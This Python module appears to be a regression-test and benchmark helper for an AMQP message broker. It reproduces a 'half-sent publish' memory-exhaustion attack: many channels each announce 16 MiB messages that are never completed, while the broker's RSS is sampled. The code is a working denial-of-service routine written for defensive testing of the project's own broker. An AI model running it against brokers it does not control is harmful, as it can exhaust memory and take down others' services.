"""The half-sent publish attack (issue 11, item 2), shared by its regression test and bench/half_sent_publish_rss.py.

One connection opens ``channels`` channels; on each it sends basic.publish and a content header
announcing ``announce`` bytes, then that many bytes of body minus one, and never the last byte. Every
message stays unfinished, so a broker that buffers them holds channels x announce bytes per
connection. :func:`attack` runs ``connections`` such clients at once against a broker process and
samples its RSS until every client has sent all it could or ``seconds`` have passed; then the clients
vanish (RST) and RSS is sampled once more.
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from dataclasses import dataclass

from pamqp import commands as C

from tests.e2e.raw import RawClient

FRAME_MAX = 131072


def rss(pid: int) -> int:
    """Resident set size of process ``pid`` in bytes (0 once it is gone)."""
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


def _frame(ftype: int, channel: int, payload: bytes) -> bytes:
    return bytes([ftype]) + struct.pack(">HI", channel, len(payload)) + payload + b"\xce"


def _half_sent(channel: int, announce: int) -> bytes:
    """basic.publish, a content header announcing ``announce`` bytes, and ``announce - 1`` of them."""
    out = [_frame(1, channel, struct.pack(">HHH", 60, 40, 0) + b"\x00\x01q\x00")]
    out.append(_frame(2, channel, struct.pack(">HHQH", 60, 0, announce, 0)))
    chunk = bytes(FRAME_MAX - 8)
    left = announce - 1
    while left > 0:
        n = min(left, len(chunk))
        out.append(_frame(3, channel, chunk[:n]))
        left -= n
    return b"".join(out)


@dataclass
class Result:
    baseline: int  # RSS before the attack
    peak: int  # highest RSS sampled during it
    end: int  # RSS when the attack stopped (clients still connected)
    after_close: int  # RSS a while after every attacking connection closed
    sent: int  # bytes the clients managed to send
    seconds: float  # how long the attack ran


def attack(
    port: int,
    pid: int,
    *,
    connections: int = 1,
    channels: int = 60,
    announce: int = 16 * 1024 * 1024,
    seconds: float = 15.0,
    settle: float = 2.0,
) -> Result:
    """Run the attack; RSS is sampled every 20 ms. ``settle``: how long to wait after the clients close."""
    clients = []
    for _ in range(connections):
        c = RawClient(port, timeout=10)
        c.handshake(frame_max=FRAME_MAX)
        for ch in range(1, channels + 1):
            c.send(ch, C.Channel.Open())
        for _ in range(channels):
            c.expect(C.Channel.OpenOk)
        clients.append(c)
    time.sleep(0.3)
    baseline = rss(pid)
    peak = [baseline]
    sent = [0] * connections
    done = threading.Event()

    def sampler() -> None:
        while not done.is_set():
            peak[0] = max(peak[0], rss(pid))
            time.sleep(0.02)

    def send(i: int) -> None:
        sock = clients[i].sock
        sock.settimeout(None)  # blocked by the broker (it stopped reading): wait until shut down
        try:
            for ch in range(1, channels + 1):
                data = _half_sent(ch, announce)
                sock.sendall(data)
                sent[i] += len(data)
        except OSError:
            pass  # shut down at the deadline, or closed by the broker

    threading.Thread(target=sampler, daemon=True).start()
    t0 = time.monotonic()
    senders = [threading.Thread(target=send, args=(i,), daemon=True) for i in range(connections)]
    for t in senders:
        t.start()
    for t in senders:
        t.join(max(0.0, seconds - (time.monotonic() - t0)))
    elapsed = time.monotonic() - t0
    time.sleep(0.5)  # let the broker take in what is in flight
    end = rss(pid)
    for c in clients:
        # Vanish as a killed client does (RST): a polite FIN would wait behind the unsent bytes of a
        # blocked connection, which the broker never reads.
        c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        try:
            c.sock.shutdown(socket.SHUT_WR)  # wakes a sender blocked in sendall, which holds the socket open
        except OSError:
            pass
        c.close()
    for t in senders:
        t.join(5)
    time.sleep(settle)
    done.set()
    return Result(baseline, peak[0], end, rss(pid), sum(sent), elapsed)
